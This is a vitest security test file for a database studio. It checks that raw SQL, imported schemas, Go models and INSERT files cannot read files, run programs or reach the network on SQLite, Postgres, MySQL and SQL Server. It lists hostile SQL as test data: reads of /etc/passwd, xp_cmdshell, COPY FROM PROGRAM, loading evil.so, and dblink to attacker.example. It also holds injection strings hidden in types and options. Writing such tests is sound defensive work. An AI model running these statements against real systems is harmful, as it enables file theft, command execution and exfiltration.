/** SQL that accesses files, programs or the network is rejected, also within an import (SECURITY.md 5). */
import { describe, expect, test } from 'vitest';
import { describeOnEachDatabase } from '../databases/kit/harness.ts';
import { tableWithId, optional } from '../databases/kit/tables.ts';
import { withJobsInProcess } from './jobs-in-process.ts';
import { requestSender, fileBody, jsonBody } from './send-request.ts';
import type { SendRequest } from './send-request.ts';

/** By database: statements that access files, programs or the network. Options of the studio do not allow them. */
const externalAccess: Readonly<Record<string, readonly string[]>> = {
  sqlite: [
    "ATTACH 'other.db' AS other",
    "ATTACH DATABASE ':memory:' AS m",
    'DETACH main',
    "SELECT load_extension('x')",
    "SELECT readfile('/etc/passwd')",
    "SELECT writefile('x', 'y')",
    "SELECT edit('x')",
    "SELECT * FROM fsdir('/')",
    "VACUUM INTO 'copy.db'",
    "WITH a AS (SELECT load_extension('x')) SELECT * FROM a",
    "INSERT INTO items (name) VALUES (readfile('/etc/passwd'))",
    "CREATE VIEW v AS SELECT load_extension('x')",
    "EXPLAIN SELECT load_extension('x')",
  ],
  postgres: [
    "COPY items FROM PROGRAM 'id'",
    "COPY items TO PROGRAM 'cat'",
    "COPY items TO '/tmp/x'",
    "COPY items FROM '/etc/passwd'",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_read_binary_file('/etc/passwd')",
    "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    `SELECT "pg_read_file"('/etc/passwd')`,
    "SELECT pg_ls_dir('/')",
    "SELECT pg_stat_file('/')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT dblink('host=attacker.example', 'SELECT 1')",
    "SELECT dblink_connect('host=attacker.example')",
    "SELECT * FROM dblink('host=attacker.example', 'SELECT 1') AS t (a int)",
    "SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, true, '')",
    "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')",
    "WITH a AS (SELECT pg_read_file('/etc/passwd')) SELECT * FROM a",
    'CREATE SERVER s FOREIGN DATA WRAPPER file_fdw',
    "CREATE SUBSCRIPTION s CONNECTION 'host=attacker.example' PUBLICATION p",
    "LOAD '/tmp/evil.so'",
    'DO $$ BEGIN PERFORM 1; END $$',
    "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f'",
    "ALTER SYSTEM SET archive_command = 'id'",
  ],
  mysql: [
    "LOAD DATA INFILE '/etc/passwd' INTO TABLE items",
    "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE items",
    "LOAD XML INFILE '/etc/passwd' INTO TABLE items",
    "SELECT * FROM items INTO OUTFILE '/tmp/x'",
    "SELECT name INTO DUMPFILE '/tmp/x' FROM items",
    "SELECT load_file('/etc/passwd')",
    "SELECT `load_file`('/etc/passwd')",
    "SELECT /*!50000 load_file('/etc/passwd') */",
    "INSERT INTO items (name) VALUES (load_file('/etc/passwd'))",
    "CREATE VIEW v AS SELECT load_file('/etc/passwd')",
    "CREATE TABLE t (a INT) SELECT load_file('/etc/passwd') AS x",
    "CREATE FUNCTION f RETURNS STRING SONAME 'evil.so'",
    "INSTALL PLUGIN p SONAME 'evil.so'",
    "SET GLOBAL general_log_file = '/tmp/x'",
    "SET GLOBAL `general_log_file` = '/tmp/x'",
    "SELECT load_file /*!99999 x*/ /*!40000 ('/etc/passwd') */",
    "CREATE EVENT e ON SCHEDULE AT now() DO SELECT 1 INTO OUTFILE '/tmp/x'",
    "CREATE TABLE t (a INT) ENGINE = `CONNECT` FILE_NAME = '/etc/passwd'",
    "CHANGE MASTER TO MASTER_HOST = 'attacker.example'",
  ],
  sqlserver: [
    "EXEC xp_cmdshell 'id'",
    "EXEC master..xp_cmdshell 'id'",
    "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=attacker', 'SELECT 1')",
    "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=attacker').a.b.c",
    "SELECT * FROM OPENQUERY(LNK, 'SELECT 1')",
    "BULK INSERT items FROM '/etc/passwd'",
    "BACKUP DATABASE x TO DISK = '/tmp/x'",
    "EXEC sp_OACreate 'wscript.shell', 0",
    "CREATE ASSEMBLY a FROM '/tmp/evil.dll'",
  ],
};

/** By database: calls that an imported file contains in place of a type, a default, a check or a view. */
const smuggledCalls: Readonly<Record<string, readonly string[]>> = {
  sqlite: ["load_extension('x')", "readfile('/etc/passwd')"],
  postgres: [
    "pg_read_file('/etc/passwd')",
    "lo_import('/etc/passwd')::text",
    'pg_reload_conf()::text',
  ],
  mysql: ["load_file('/etc/passwd')", "get_lock('a', 1)", 'innodb_set_open_files_limit(888)'],
  sqlserver: [],
};

/** By database: table options that contain further SQL. */
const hiddenInOptions: Readonly<Record<string, readonly Readonly<Record<string, string>>[]>> = {
  postgres: [
    { constraints: 'EXCLUDE USING btree (id with =)) INHERITS (items' },
    { constraints: 'EXCLUDE USING btree (id with =), smuggled int' },
    { constraints: 'CHECK (id > 0)' },
  ],
  mysql: [
    { ENGINE: 'CONNECT' },
    { ENGINE: "InnoDB DATA DIRECTORY = '/tmp'" },
    { ENGINE: 'InnoDB SELECT * FROM items' },
    { 'CHARACTER SET': "utf8mb4 COMMENT = 'x'" },
  ],
};

describeOnEachDatabase('files and network', (harness) => {
  const { name: dialect } = harness.underTest;
  /** Sends requests to a studio that imports in separate processes, as for users. */
  let ask: SendRequest;
  /** The same, importing in this process, because starting a process for each import is slow. */
  let askInProcess: SendRequest;
  const columns = [{ name: 'id', type: 'INTEGER' }];
  const schemaFile = (tables: readonly object[], otherMembers: object = {}): RequestInit =>
    fileBody('schema.json', JSON.stringify({ driver: dialect, tables, ...otherMembers }));

  /** Expects an error that shows no content of a file, and an unchanged database. */
  async function expectRejected(path: string, init: RequestInit, send = ask): Promise<void> {
    const before = await harness.database.fingerprint();
    const response = await send(path, init);
    expect([400, 403, 422], response.text).toContain(response.status);
    expect(response.text).not.toContain('root:');
    expect(await harness.database.fingerprint()).toBe(before);
  }

  harness.beforeTests(async () => {
    await harness.createTables([tableWithId('users', [optional('name', { kind: 'text' })])]);
    await harness.createTables([tableWithId('items', [optional('name', { kind: 'text' })])]);
    const studio = await harness.openStudio({ allowDdl: true });
    ask = requestSender(studio);
    askInProcess = requestSender(
      withJobsInProcess(studio, harness.database.url, { allowDdl: true }),
    );
  });

  test.each(externalAccess[dialect] ?? [])('raw SQL is rejected: %s', async (query) => {
    await expectRejected('/sql', jsonBody({ query }));
  });

  describe.each(smuggledCalls[dialect] ?? [])('the call %s is rejected', (call) => {
    const send: SendRequest = (path, init) =>
      (call === smuggledCalls[dialect]?.[0] ? ask : askInProcess)(path, init);

    test.each([
      ['a default', { columns: [{ ...columns[0], default_value: `(${call})` }] }],
      ['a type', { columns: [{ name: 'id', type: `INTEGER DEFAULT (${call})` }] }],
      ['a table by a type', { columns: [{ name: 'id', type: `int) SELECT ${call} AS x --` }] }],
      [
        'a generated column',
        {
          columns: [
            ...columns,
            { name: 'g', type: 'TEXT', generated_expression: call, is_stored: true },
          ],
        },
      ],
      ['a check', { columns, checks: [{ expression: `${call} IS NULL` }] }],
      ['an index', { columns, indexes: [{ name: 'i', parts: [{ expression: call }] }] }],
    ])('as %s of an imported schema', async (kind, table) => {
      const before = await harness.database.fingerprint();
      const response = await send(
        '/import/schema',
        schemaFile([{ name: `${kind} ${call.length}`, ...table }]),
      );
      expect([200, 422], response.text).toContain(response.status);
      if (response.status === 422) expect(await harness.database.fingerprint()).toBe(before);
      // A type that the database does not have may have become a text type.
      else expect(JSON.stringify(response.json['statements'])).not.toContain(call.split('(')[0]);
    });

    test('as a view of an imported schema', async () => {
      const definition = `SELECT ${call} AS x`;
      const view = { name: 'v', kind: 'view', columns: [{ name: 'x', type: 'TEXT' }], definition };
      await expectRejected('/import/schema', schemaFile([], { views: [view] }), send);
      await expectRejected(
        '/import/schema',
        fileBody('v.sql', `CREATE VIEW v AS ${definition};`),
        send,
      );
    });

    test('as a default of a Go model', async () => {
      const tag = `gorm:"default:(${call.replaceAll(':', '\\\\:')})"`;
      const text = `package a\n\ntype Smuggled struct {\n\tID uint\n\tName string \`${tag}\`\n}\n`;
      await expectRejected('/import/models', fileBody('a.go', text), send);
    });

    test('as a value of an imported INSERT', async () => {
      await expectRejected(
        '/import/data',
        fileBody('a.sql', `INSERT INTO items (name) VALUES (${call});`),
        send,
      );
    });
  });

  test.each(hiddenInOptions[dialect] ?? [])(
    'table options of an imported schema are rejected: %j',
    async (options) => {
      await expectRejected(
        '/import/schema',
        schemaFile([{ name: 'o', columns, options }]),
        askInProcess,
      );
    },
  );

  test.each(['INTEGER); DROP TABLE items; --', 'INTEGER /*', "INTEGER DEFAULT '"])(
    'a type that contains a statement delimiter runs no other statement: %s',
    async (type) => {
      const [items] = (await ask('/tables/items/rows')).text;
      const table = { name: `ended by ${type.length}`, columns: [{ name: 'id', type }] };
      const response = await askInProcess('/import/schema', schemaFile([table]));
      if (response.status === 200)
        expect(JSON.stringify(response.json['statements'])).not.toContain('DROP');
      expect((await ask('/tables/items/rows')).text[0]).toBe(items);
    },
  );
});
